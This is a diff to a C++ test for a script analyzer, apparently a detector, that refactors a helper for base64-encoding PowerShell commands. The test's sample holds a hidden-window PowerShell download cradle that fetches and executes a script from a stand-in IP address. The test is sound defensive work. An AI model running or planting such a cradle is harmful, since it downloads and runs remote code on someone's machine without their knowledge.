@@ -16,15 +16,6 @@ namespace {
 
 using lg::testing::RecordingContext;
 
-std::string utf16_base64(std::string_view s) {
-  Bytes b;
-  for (char c : s) {
-    b.push_back(static_cast<std::uint8_t>(c));
-    b.push_back(0);
-  }
-  return encode_base64(b);
-}
-
 std::set<std::string> symbols(const Report& r) {
   std::set<std::string> out;
   for (const auto& f : r.findings) out.insert(f.symbol);
@@ -40,7 +31,8 @@ TEST(ScriptAnalyzer, PowerShellEncodedCradleThroughTheEngine) {
   const std::string ps =
       "param($u)\r\n$env:X = 1\r\nStart-Process powershell.exe -ArgumentList '-NoProfile "
       "-WindowStyle Hidden -EncodedCommand " +
-      utf16_base64("IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.5/s')") +
+      script::testing::powershell_encoded(
+          "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.5/s')") +
       "'\r\n";
   Report r = scan("update.ps1", ps);
   ASSERT_FALSE(r.objects.empty());
